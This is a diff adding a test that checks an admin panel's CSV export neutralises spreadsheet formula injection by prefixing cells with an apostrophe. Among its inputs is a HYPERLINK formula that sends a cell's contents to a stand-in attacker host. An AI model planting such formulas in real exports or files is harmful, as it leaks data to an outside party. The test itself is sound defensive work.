@@ -357,6 +357,44 @@ describe.each(DATABASE_KINDS)("authors' statistics on %s", (kind) => {
     expect(missing.status).toBe(404);
   });
 
+  it("write no cell a spreadsheet would run: names starting with = + - @ come out as text", async () => {
+    const { db } = services;
+    const unlockable = await db
+      .selectFrom("characters")
+      .select(["id", "name"])
+      .where("required_url", "is not", null)
+      .orderBy("sort_order")
+      .limit(4)
+      .execute();
+    expect(unlockable).toHaveLength(4);
+    const formulas = ['=HYPERLINK("https://malo.example/?d="&A1,"Ver")', "+SUMA(A1:A9)", "-2+3", "@HOY()"];
+    const rename = (names: string[]) =>
+      Promise.all(
+        unlockable.map((character, index) =>
+          db.updateTable("characters").set({ name: names[index]! }).where("id", "=", character.id).execute(),
+        ),
+      );
+    await rename(formulas);
+    try {
+      const admin = await signUpReader(services, "jefa.formulas@example.com");
+      await grantAdminByEmail(services.db, "jefa.formulas@example.com", async () => {});
+      const args = await routeArgs(services, "/adminpanel/estadisticas/personajes.csv?dias=7", {
+        cookie: admin.cookie,
+      });
+      const csv = (await csvLoader({ ...(args as object), params: { file: "personajes.csv" } } as never)) as Response;
+      expect(csv.status).toBe(200);
+      const lines = (await csv.text()).split("\r\n");
+      expect(lines).toContain(`"'=HYPERLINK(""https://malo.example/?d=""&A1,""Ver"")",0`);
+      expect(lines).toContain("'+SUMA(A1:A9),0");
+      expect(lines).toContain("'-2+3,0");
+      expect(lines).toContain("'@HOY(),0");
+      // No line (after the header) starts with what a spreadsheet runs, quoted or not.
+      expect(lines.slice(1).filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([]);
+    } finally {
+      await rename(unlockable.map((character) => character.name));
+    }
+  });
+
   it("count a family's children as families and a class's students with their classes, totals only", async () => {
     const { db } = services;
     const students = await insertUsers(db, "maestra", ...Array.from({ length: 6 }, (_, index) => `alumno-${index}`));
